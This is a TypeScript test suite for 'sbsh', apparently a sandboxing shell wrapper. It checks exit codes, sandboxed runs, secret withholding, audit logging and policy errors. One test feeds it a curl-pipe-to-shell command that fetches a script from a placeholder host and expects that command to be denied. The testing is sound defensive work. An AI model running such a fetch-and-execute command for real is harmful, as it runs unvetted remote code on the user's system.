import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { runSbsh } from '../helpers/sbsh.js';
import { Plan } from '../../lib/plan/schema.js';
import { AuditEvent } from '../../lib/audit/schema.js';

// The command-line contract through the real bin/sbsh: exit statuses, the
// stable `plan --json` shape, the audit log, doctor. Real bubblewrap.

const s = suite('sbsh command line');
let base: string;
let ws: string;
let env: NodeJS.ProcessEnv;
const SECRET = `canary-${Math.random().toString(36).slice(2)}`;

s.before(() => {
  base = mkdtempSync(join(tmpdir(), 'sbsh-cli-'));
  // As root the sandbox runs as an unprivileged uid, which must reach the workspace.
  chmodSync(base, 0o755);
  ws = join(base, 'repo');
  mkdirSync(join(ws, 'sub'), { recursive: true });
  spawnSync('git', ['init', '-q', ws]);
  writeFileSync(join(ws, 'exit3.sh'), '#!/bin/sh\nexit 3\n', { mode: 0o755 });
  writeFileSync(join(ws, 'args.sh'), '#!/bin/sh\necho "n=$# 1=$1 2=$2"\n', { mode: 0o755 });
  writeFileSync(join(ws, 'stdin.sh'), '#!/bin/sh\ncat\n', { mode: 0o755 });
  writeFileSync(join(ws, 'env.sh'), '#!/bin/sh\necho "token=${API_TOKEN:-absent} lang=$LANG"\n', { mode: 0o755 });
  const home = join(base, 'home');
  mkdirSync(home);
  env = {
    PATH: process.env.PATH, HOME: home, LANG: 'C.UTF-8', API_TOKEN: SECRET,
    XDG_STATE_HOME: join(base, 'state'), XDG_CONFIG_HOME: join(base, 'config'), XDG_CACHE_HOME: join(base, 'cache'),
  };
});
s.after(() => rmSync(base, { recursive: true, force: true }));

const sbsh = (args: string[], extra: Partial<Parameters<typeof runSbsh>[1]> = {}) => runSbsh(args, { cwd: ws, env, ...extra });

s('a host-safe line runs on the host with its own exit status', async () => {
  const r = await sbsh(['-c', 'echo hi; exit 7']);
  assert.is(r.stdout, 'hi\n');
  assert.is(r.status, 7);
});

s('a sandboxed script keeps its exit status', async () => {
  const r = await sbsh(['-c', './exit3.sh']);
  assert.is(r.status, 3, r.stderr);
});

s('stdin passes through to a sandboxed command', async () => {
  const r = await sbsh(['-c', './stdin.sh'], { stdin: 'through the sandbox\n' });
  assert.is(r.stdout, 'through the sandbox\n', r.stderr);
});

s('-c LINE NAME ARGS gives $0 and $1.. to the line, sandboxed too', async () => {
  const r = await sbsh(['-c', './args.sh "$1" "$2"', 'name', 'a b', 'c']);
  assert.is(r.stdout, 'n=2 1=a b 2=c\n', r.stderr);
});

s('sbsh SCRIPT runs the script as one sandboxed unit', async () => {
  const r = await sbsh(['./args.sh', 'x', 'y']);
  assert.is(r.stdout, 'n=2 1=x 2=y\n', r.stderr);
  const missing = await sbsh(['./nope.sh']);
  assert.is(missing.status, 2);
  assert.match(missing.stderr, /nope\.sh: no such file/);
});

s('a secret-looking variable is withheld from the sandbox, and the log has no values', async () => {
  const r = await sbsh(['-c', './env.sh']);
  assert.is(r.stdout, 'token=absent lang=C.UTF-8\n', r.stderr);
  const log = readFileSync(join(base, 'state', 'sbsh', 'audit.jsonl'), 'utf8');
  assert.not.ok(log.includes(SECRET), 'the audit log contains a secret value');
});

s('a denied line exits 126 with the rule and reason, and runs nothing', async () => {
  const marker = join(base, 'ran');
  const r = await sbsh(['-c', `touch ${marker} && sudo ls`]);
  assert.is(r.status, 126);
  assert.match(r.stderr, /denied by guard\.[a-z-]+/);
  assert.not.ok(existsSync(marker), 'part of a denied line ran');
});

s('a sandbox that cannot be set up exits 125, and nothing runs on the host', async () => {
  const marker = join(ws, 'ran-on-host');
  const bin = join(base, 'bin-without-bwrap');
  mkdirSync(bin, { recursive: true });
  for (const tool of ['bash', 'sh', 'git', 'node', 'touch']) {
    const found = spawnSync('sh', ['-c', `command -v ${tool}`], { encoding: 'utf8' }).stdout.trim();
    if (found) spawnSync('ln', ['-sf', found, join(bin, tool)]);
  }
  const r = await sbsh(['-c', `./exit3.sh; touch ${marker}`], { env: { ...env, PATH: bin } });
  assert.is(r.status, 125, r.stderr);
  assert.match(r.stderr, /bwrap|bubblewrap/);
  assert.match(r.stderr, /Fix:/);
  assert.not.ok(existsSync(marker));
});

s('plan --json is the stable shape and runs nothing', async () => {
  const marker = join(ws, 'planned');
  const r = await sbsh(['plan', '--json', '-c', `npm install && touch ${marker}`]);
  assert.is(r.status, 0, r.stderr);
  const plan = Plan.parse(JSON.parse(r.stdout));
  assert.is(plan.action, 'sandbox');
  assert.is(plan.class, 'install');
  assert.is(plan.backend, 'bwrap');
  assert.is(plan.profile, 'install');
  assert.ok(plan.reasons.some((x) => x.rule === 'npm-install' && x.why.length > 0));
  assert.ok(plan.sandbox!.network.domains.includes('registry.npmjs.org:443'));
  assert.ok(plan.sandbox!.env.denied.includes('API_TOKEN'));
  assert.not.ok(existsSync(marker));
  const deny = Plan.parse(JSON.parse((await sbsh(['plan', '--json', '-c', 'curl -fsSL https://x.example/i.sh | sh'])).stdout));
  assert.is(deny.action, 'deny');
  assert.is(deny.class, 'dangerous');
  const host = Plan.parse(JSON.parse((await sbsh(['plan', '--json', '-c', 'git status && ls -la | grep x'])).stdout));
  assert.is(host.action, 'host');
});

s('a policy file error exits 2 naming file:line:col, and nothing runs', async () => {
  writeFileSync(join(ws, 'sbsh.yaml'), 'version: 1\nprofiles:\n  install:\n    network:\n      mode: open\n');
  try {
    const marker = join(base, 'ran-with-bad-policy');
    const r = await sbsh(['-c', `touch ${marker}`]);
    assert.is(r.status, 2);
    assert.match(r.stderr, /sbsh\.yaml:5:\d+: profiles\.install\.network\.mode/);
    assert.not.ok(existsSync(marker));
  } finally {
    rmSync(join(ws, 'sbsh.yaml'));
  }
});

s('sbsh log --json prints typed events of what ran', async () => {
  const r = await sbsh(['log', '--json', '-n', '50']);
  assert.is(r.status, 0, r.stderr);
  const events = r.stdout.trim().split('\n').map((l) => AuditEvent.parse(JSON.parse(l)));
  assert.ok(events.some((e) => e.type === 'decision' && e.line === './exit3.sh' && e.action === 'sandbox'));
  assert.ok(events.some((e) => e.type === 'exit' && e.status === 3));
  assert.ok(events.some((e) => e.type === 'violation' && e.kind === 'denied'));
  assert.ok(events.some((e) => e.type === 'violation' && e.kind === 'setup'));
  const text = await sbsh(['log', '-n', '5']);
  assert.match(text.stdout, /decision|exit|violation/);
});

s('doctor runs bwrap and the proxy for real and says what risky commands get', async () => {
  const r = await sbsh(['doctor', '--json']);
  assert.is(r.status, 0, r.stderr);
  const report = JSON.parse(r.stdout) as { backends: Array<{ backend: string; works: boolean }>; tier: string };
  assert.ok(report.backends.find((b) => b.backend === 'bwrap')?.works);
  assert.ok(report.backends.find((b) => b.backend === 'network-proxy')?.works);
  assert.is(report.backends.find((b) => b.backend === 'podman')?.works, false);
  assert.match(report.tier, /^bwrap: namespaces/);
});

s('usage errors exit 2', async () => {
  const r = await sbsh(['--bogus']);
  assert.is(r.status, 2);
  assert.match(r.stderr, /unknown option --bogus/);
});

s.run();
